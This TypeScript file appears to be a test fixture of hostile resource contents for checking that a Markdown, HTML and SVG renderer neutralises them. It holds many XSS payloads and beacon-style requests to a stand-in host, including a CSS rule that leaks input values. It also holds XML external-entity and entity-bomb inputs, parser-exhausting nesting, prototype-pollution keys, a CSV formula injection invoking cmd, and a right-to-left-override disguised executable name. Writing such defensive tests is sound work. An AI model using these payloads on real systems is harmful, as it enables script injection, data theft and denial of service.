import type { ResourceContents } from "../../../src/index.js";

// Every vector tries to run `pwn()`, to reach BEACON, to leave the page, or to hold it up.
export const BEACON = "https://beacon.invalid/";
const JS = "window.pwned=1;parent.pwned=1;top.pwned=1";

const md = (text: string): ResourceContents => ({ uri: "evil://x/a.md", mimeType: "text/markdown", text });
const html = (text: string): ResourceContents => ({ uri: "evil://x/a.html", mimeType: "text/html", text });
const svg = (inner: string, attributes = ""): ResourceContents => ({
  uri: "evil://x/a.svg",
  mimeType: "image/svg+xml",
  text: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" ${attributes}>${inner}</svg>`,
});
const blob = (mimeType: string, text: string, uri = "evil://x/a"): ResourceContents => ({
  uri,
  mimeType,
  blob: btoa(text),
});

/** Contents of a server that means harm, by what they try. */
export const hostileContents: Readonly<Record<string, ResourceContents>> = {
  "markdown: script element": md(`<script>${JS}</script>`),
  "markdown: handler on an image": md(`<img src=x onerror="${JS}">`),
  "markdown: svg with onload": md(`<svg onload="${JS}">`),
  "markdown: iframe with javascript": md(`<iframe src="javascript:${JS}"></iframe>`),
  "markdown: iframe with srcdoc": md(`<iframe srcdoc="<script>${JS}</script>"></iframe>`),
  "markdown: details that toggle": md(`<details open ontoggle="${JS}">`),
  "markdown: meta refresh": md(`<meta http-equiv="refresh" content="0;url=${BEACON}">`),
  "markdown: base element": md(`<base href="${BEACON}">\n\n[a](b)`),
  "markdown: style import": md(`<style>@import url(${BEACON});</style>`),
  "markdown: link prefetch": md(`<link rel="prefetch" href="${BEACON}">`),
  "markdown: form that posts": md(`<form action="${BEACON}"><input autofocus onfocus="${JS}"></form>`),
  "markdown: remote image": md(`![a](${BEACON}p.png)`),
  "markdown: remote image by reference": md(`![a][b]\n\n[b]: ${BEACON}p.png`),
  "markdown: remote image in a link": md(`[![a](${BEACON}p.png)](${BEACON})`),
  "markdown: protocol-relative image": md("![a](//beacon.invalid/p.png)"),
  "markdown: image with a javascript address": md(`![a](javascript:${JS})`),
  "markdown: svg image as data": md(`![a](data:image/svg+xml,<svg/onload=${JS}>)`),
  "markdown: javascript link": md(`[a](javascript:${JS})`),
  "markdown: javascript link with a tab in it": md("[a](<java\tscript:pwn()>)"),
  "markdown: javascript link in capitals and entities": md("[a](&#x4a;avaScript&colon;pwn())"),
  "markdown: javascript link with a control character": md("[a](<\u0001javascript:pwn()>)"),
  "markdown: javascript autolink": md("<javascript:pwn()>"),
  "markdown: data link": md(`[a](data:text/html,<script>${JS}</script>)`),
  "markdown: vbscript link": md("[a](vbscript:pwn)"),
  "markdown: blob link": md("[a](blob:https://host/1)"),
  "markdown: link title that breaks out": md(`[a](x "\\" onmouseover=\\"${JS}")`),
  "markdown: heading that clobbers": md("# location\n\n# document\n\n## __proto__\n\n[l](#location)"),
  "markdown: footnote that clobbers": md("a[^constructor] b[^cookie]\n\n[^constructor]: x\n[^cookie]: y"),
  "markdown: definition of __proto__": md("[__proto__] [constructor]\n\n[__proto__]: x\n[constructor]: y"),
  "markdown: quotes nested 20,000 deep": md(`${">".repeat(20_000)} a`),
  "markdown: lists nested 5,000 deep": md("- ".repeat(5_000) + "a"),
  "markdown: lists indented 2,000 deep": md(
    Array.from({ length: 2_000 }, (_, at) => `${" ".repeat(2 * at)}- a`).join("\n"),
  ),
  "markdown: 60,000 opening brackets": md("[".repeat(60_000)),
  "markdown: 20,000 half links": md("[a](".repeat(20_000)),
  "markdown: 20,000 images in images": md("![".repeat(20_000)),
  "markdown: 40,000 emphasis marks": md("*a _b ".repeat(20_000)),
  "markdown: 30,000 backticks of growing length": md(
    Array.from({ length: 400 }, (_, at) => "`".repeat(at)).join(" a "),
  ),
  "markdown: a table of 3,000 columns": md(`|${"a|".repeat(3_000)}\n|${"-|".repeat(3_000)}\n|${"b|".repeat(3_000)}`),
  "markdown: 50,000 angle brackets": md("<a ".repeat(50_000)),
  "html: script": html(`<script>${JS}</script>`),
  "html: handlers": html(`<body onload="${JS}"><img src=x onerror="${JS}">`),
  "html: comment that hides the head": html(`<!-- <head> --><img src="${BEACON}p.png">`),
  "html: meta refresh": html(`<meta http-equiv="refresh" content="0;url=${BEACON}">`),
  "html: policy of its own": html(
    `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${BEACON}p.png">`,
  ),
  "html: base and relative image": html(`<base href="${BEACON}"><img src="p.png">`),
  "html: style with images and imports": html(
    `<style>@import "${BEACON}a.css";body{background:url(${BEACON}b.png)}</style>`,
  ),
  "html: css that tells secrets": html(
    `<style>input[value^="a"]{background:url(${BEACON}a)}</style><input value="abc">`,
  ),
  "html: web font": html(`<style>@font-face{font-family:x;src:url(${BEACON}f.woff2)}p{font-family:x}</style><p>a`),
  "html: prefetch, preconnect, preload": html(
    `<link rel="prefetch" href="${BEACON}1"><link rel="preconnect" href="${BEACON}"><link rel="preload" as="image" href="${BEACON}2"><link rel="dns-prefetch" href="${BEACON}">`,
  ),
  "html: frame": html(`<iframe src="${BEACON}"></iframe><frameset><frame src="${BEACON}"></frameset>`),
  "html: object and embed": html(`<object data="${BEACON}"></object><embed src="${BEACON}">`),
  "html: media": html(
    `<video autoplay src="${BEACON}v.mp4" poster="${BEACON}p.png"></video><audio autoplay src="${BEACON}a.mp3"></audio>`,
  ),
  "html: srcset and picture": html(
    `<picture><source srcset="${BEACON}s.png"><img srcset="${BEACON}t.png 2x"></picture>`,
  ),
  "html: form that sends itself": html(
    `<form action="${BEACON}"><input type=submit autofocus></form><script>document.forms[0].submit()</script>`,
  ),
  "html: svg with a remote image": html(`<svg><image href="${BEACON}p.png"/><use href="${BEACON}s.svg#a"/></svg>`),
  "html: end of the frame's attribute": html(`"></iframe><script>${JS}</script>`),
  "html: template with a script": html(
    `<template><script>${JS}</script></template><noscript><img src=${BEACON}></noscript>`,
  ),
  "html: 100,000 open elements": html("<div>".repeat(100_000)),
  "xhtml: script": {
    uri: "evil://x/a",
    mimeType: "application/xhtml+xml",
    text: `<html xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></html>`,
  },
  "app: script": {
    uri: "ui://x/app",
    mimeType: "text/html;profile=mcp-app",
    text: `<script>${JS}</script><img src="${BEACON}p.png">`,
  },
  "app: by its scheme only": { uri: "ui://x/app", mimeType: "text/html", text: `<img src="${BEACON}p.png">` },
  "svg: script": svg(`<script>${JS}</script>`),
  "svg: onload": svg("", `onload="${JS}"`),
  "svg: foreign object": svg(
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><script>${JS}</script></body></foreignObject>`,
  ),
  "svg: remote image and use": svg(
    `<image href="${BEACON}p.png" width="9" height="9"/><use xlink:href="${BEACON}s.svg#a"/>`,
  ),
  "svg: style import": svg(`<style>@import url(${BEACON}a.css);</style>`),
  "svg: animated link": svg(
    `<a xlink:href="javascript:${JS}"><animate attributeName="href" to="javascript:${JS}"/><text y="9">a</text></a>`,
  ),
  "svg: entities that multiply": {
    uri: "evil://x/bomb.svg",
    mimeType: "image/svg+xml",
    text: `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${"bcdefghij"
      .split("")
      .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghi"[at]};`.repeat(10)}">`)
      .join("")}]><svg xmlns="http://www.w3.org/2000/svg"><text>&j;</text></svg>`,
  },
  "svg: uses that multiply": svg(
    `<defs><g id="a0"><rect width="1" height="1"/></g>${Array.from({ length: 12 }, (_, at) => `<g id="a${at + 1}">${`<use href="#a${at}"/>`.repeat(10)}</g>`).join("")}</defs><use href="#a12"/>`,
  ),
  "svg: with scripts, called png": blob("image/png", `<svg xmlns="http://www.w3.org/2000/svg" onload="${JS}"/>`),
  "xml: external entity": {
    uri: "evil://x/a.xml",
    mimeType: "application/xml",
    text: `<!DOCTYPE a [<!ENTITY x SYSTEM "${BEACON}">]><a>&x;</a>`,
  },
  "xml: stylesheet": {
    uri: "evil://x/a.xml",
    mimeType: "text/xml",
    text: `<?xml-stylesheet href="${BEACON}a.xsl" type="text/xsl"?><a/>`,
  },
  "json: nested 100,000 deep": {
    uri: "evil://x/a.json",
    mimeType: "application/json",
    text: "[".repeat(100_000) + "]".repeat(100_000),
  },
  "json: __proto__ and markup": {
    uri: "evil://x/a.json",
    mimeType: "application/json",
    text: `{"__proto__":{"pwned":1},"<img src=x onerror=${JS}>":"</script><script>${JS}</script>"}`,
  },
  "csv: formula and markup": {
    uri: "evil://x/a.csv",
    mimeType: "text/csv",
    text: `=cmd|' /C calc'!A0,<img src=x onerror="${JS}">\n"a,b`,
  },
  "text: ANSI link and title": {
    uri: "evil://x/a.log",
    mimeType: "text/x-log",
    text: `\u001b]8;;javascript:${JS}\u0007click\u001b]8;;\u0007\u001b]0;pwned\u0007`,
  },
  "html bytes as octet-stream": blob("application/octet-stream", `<html><script>${JS}</script>`),
  "pdf that is html": blob("application/pdf", `<html><script>${JS}</script></html>`),
  "pdf with html behind the mark": blob("application/pdf", `%PDF-1.4\n<html><script>${JS}</script></html>`),
  "audio that is html": blob("audio/mpeg", `<html><script>${JS}</script></html>`),
  "MIME type with markup": { uri: "evil://x/a", mimeType: `text/html"><script>${JS}</script>`, text: "a" },
  "MIME type with a line break": {
    uri: "evil://x/a",
    mimeType: "text/plain\r\nx: <img src=x onerror=pwn()>",
    text: "a",
  },
  "MIME type of a script": { uri: "evil://x/a", mimeType: "text/javascript", text: JS },
  "URI with markup": { uri: `evil://x/"><img src=x onerror="${JS}">`, text: "a" },
  "URI with javascript": { uri: `javascript:${JS}`, mimeType: "text/markdown", text: "[a](b) ![c](d)" },
  "URI of the web": { uri: `${BEACON}p.png`, mimeType: "image/png", blob: "iVBORw0KGgo=" },
  "name that reads backwards": { uri: "evil://x/invoice_\u202egpj.exe", text: "a" },
};
